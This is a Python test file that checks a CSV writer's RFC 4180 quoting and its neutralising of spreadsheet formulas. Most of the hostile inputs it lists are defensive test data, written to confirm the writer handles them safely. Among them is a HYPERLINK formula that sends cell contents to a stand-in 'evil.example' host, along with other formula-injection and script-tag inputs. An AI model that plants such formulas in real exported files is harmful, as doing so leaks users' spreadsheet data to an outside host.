"""The one CSV writer: RFC 4180 quoting and formula neutralisation, read back by csv, pyarrow and pandas."""

import csv
import io

import pandas as pd
import pyarrow.csv as pa_csv
import pytest

from core.csvfiles import CsvWriter, neutralise, restore

HOSTILE_CELLS = [
    "plain",
    "",
    "bare\rcarriage return",
    "\r",
    "line\nfeed",
    "crlf\r\ninside",
    'quote " inside',
    '"',
    '""',
    "comma, inside",
    "nul\x00byte",
    "\x00",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=leading tab",
    "\rleading cr",
    "'already quoted",
    "'=quoted formula",
    "''",
    "'",
    "<script>alert(1)</script>",
    "ünïcødé ✓ 😀 \u202e rtl",
    "x" * 200_000,
    " leading and trailing spaces ",
    "\\ backslash \\",
]


def _written(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    writer = CsvWriter(buffer)
    writer.writerow(["a", "b"])
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


@pytest.fixture
def hostile_rows() -> list[list[str]]:
    return [[f"row-{i}", value] for i, value in enumerate(HOSTILE_CELLS)]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_formula_cells_start_with_an_apostrophe(value):
    assert neutralise(value) == "'" + value


def test_records_are_crlf_terminated_and_a_bare_cr_is_quoted():
    assert _written([["1", "x\ry"]]) == b'a,b\r\n1,"x\ry"\r\n'


def test_python_csv_reads_back_every_hostile_cell(hostile_rows):
    rows = list(csv.reader(io.StringIO(_written(hostile_rows).decode("utf-8"), newline="")))
    assert len(rows) == len(hostile_rows) + 1
    assert [[restore(c) for c in row] for row in rows[1:]] == hostile_rows


def test_pyarrow_reads_back_every_hostile_cell(hostile_rows):
    table = pa_csv.read_csv(
        io.BytesIO(_written(hostile_rows)),
        parse_options=pa_csv.ParseOptions(newlines_in_values=True),
        convert_options=pa_csv.ConvertOptions(column_types={"a": "string", "b": "string"}, strings_can_be_null=False),
    )
    assert table.num_rows == len(hostile_rows)
    assert [[r["a"], restore(r["b"])] for r in table.to_pylist()] == hostile_rows


def test_pandas_reads_back_every_hostile_cell(hostile_rows):
    frame = pd.read_csv(io.BytesIO(_written(hostile_rows)), dtype=str, keep_default_na=False)
    assert len(frame) == len(hostile_rows)
    assert [[a, restore(b)] for a, b in frame.itertuples(index=False)] == hostile_rows
